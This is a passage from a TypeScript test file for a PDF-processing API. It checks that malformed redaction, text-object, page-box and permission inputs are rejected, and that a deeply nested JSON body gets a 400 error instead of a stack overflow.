  const BOXES = '/pdf-with-page-boxes-set';
  await expectAll([
    field(REDACT, 'redactions malformed', { redactions: '[{"type":"literal","value":"a"}' }, /JSON|redactions/),
    field(REDACT, 'redactions regex RE2 rejects (look-ahead)', { redactions: '[{"type":"regex","value":"a(?=b)"}]' }, /redactions\[0\]\.value/),
    field(REDACT, 'redactions regex RE2 rejects (back-reference)', { redactions: '[{"type":"regex","value":"(a)\\\\1"}]' }, /redactions\[0\]\.value/),
    field(REDACT, 'redactions regex unbalanced', { redactions: '[{"type":"regex","value":"(a"}]' }, /redactions\[0\]\.value/),
    field(REDACT, 'redactions regex repetition over 1000', { redactions: '[{"type":"regex","value":"a{1001}"}]' }, /redactions\[0\]\.value/),
    field(REDACT, 'redactions unknown type', { redactions: '[{"type":"fuzzy","value":"a"}]' }, /redactions/),
    field(REDACT, 'redactions unknown preset', { redactions: '[{"type":"preset","value":"passport"}]' }, /redactions/),
    field(REDACT, 'redactions value of the wrong type', { redactions: '[{"type":"literal","value":{"a":1}}]' }, /redactions/),
    field(REDACT, 'redactions empty', { redactions: '[]' }, /redactions/),
    field(REDACT, 'redactions deeply nested', { redactions: deep }, /redactions|nest/),
    field(TEXT, 'text_objects malformed', { text_objects: '[{"text":"a"' }, /JSON|text_objects/),
    field(TEXT, 'text_objects of the wrong type', { text_objects: '{"text":"a"}' }, /text_objects/),
    field(
      TEXT,
      'text_objects wrongly typed member',
      { text_objects: '[{"text":"Hi","page":"first","x":"20","y":"20","font":"Helvetica","text_size":"12"}]' },
      /text_objects\[0\]\.page/,
    ),
    field(TEXT, 'text_objects unknown font', { text_objects: '[{"text":"Hi","page":1,"x":20,"y":20,"font":"NoSuchFont","text_size":12}]' }, /font|NoSuchFont/),
    field(TEXT, 'text_objects deeply nested', { text_objects: deep }, /text_objects|nest/),
    field(BOXES, 'boxes malformed', { boxes: '{"boxes":[' }, /JSON|boxes/),
    field(BOXES, 'boxes of the wrong type', { boxes: '{"boxes":"crop"}' }, /boxes/),
    field(
      BOXES,
      'boxes with an unknown box',
      { boxes: '[{"box":"bounding","pages":[{"range":"1","left":1,"top":1,"bottom":1,"right":1}]}]' },
      /boxes\[0\]\.box/,
    ),
    field(BOXES, 'boxes with a bad range', { boxes: '[{"box":"crop","pages":[{"range":"1-x","left":1,"top":1,"bottom":1,"right":1}]}]' }, /range|boxes/),
    field(BOXES, 'boxes deeply nested', { boxes: deep }, /boxes|nest/),
    field('/restricted-pdf', 'restrictions malformed', { new_permissions_password: 'permissions-pw', restrictions: '["print_low"' }, /restrictions/),
    field('/restricted-pdf', 'restrictions unknown', { new_permissions_password: 'permissions-pw', restrictions: '["print_everything"]' }, /restrictions/),
    field('/restricted-pdf', 'restrictions deeply nested', { new_permissions_password: 'permissions-pw', restrictions: deep }, /restrictions|nest/),
    field('/merged-pdf', 'pages[] deeply nested', { pages: deep }, /pages|nest/),
    field('/merged-pdf', 'type[] unknown', { 'type[]': 'scroll', pages: '1' }, /type/),
    field('/split-pdf', 'pages malformed', { pages: '["1-"' }, /pages/),
  ]);
});

test('JSON bodies: deeply nested values in any field are 400, not a stack overflow', async () => {
  const up = await t.form('/upload', { file: PDF });
  const id = ((await up.json()) as { files: { id: string }[] }).files[0].id;
  // Written by hand: JSON.stringify itself overflows on such a value.
  const deep = `${'['.repeat(30000)}${']'.repeat(30000)}`;
  const wrong: string[] = [];
  for (const [path, extra, field] of [
    ['/pdf-with-redacted-text-preview', '', 'redactions'],
    ['/signed-pdf', '', 'signature_configuration'],
    ['/restricted-pdf', '"new_permissions_password":"permissions-pw",', 'restrictions'],
    ['/compressed-pdf', '', 'compression_level'],
    ['/split-pdf', '', 'pages'],
    ['/watermarked-pdf', '', 'watermark_text'],
  ]) {
    const res = await t.request(path, { method: 'POST', headers: { 'content-type': 'application/json' }, body: `{"id":"${id}",${extra}"${field}":${deep}}` });
    const body = (await res.json().catch(() => null)) as { error?: string } | null;
    if (res.status !== 400 || typeof body?.error !== 'string') wrong.push(`${path} ${field}: ${res.status} ${JSON.stringify(body).slice(0, 160)}`);
  }
  assert.equal(wrong, []);
});

test.run();
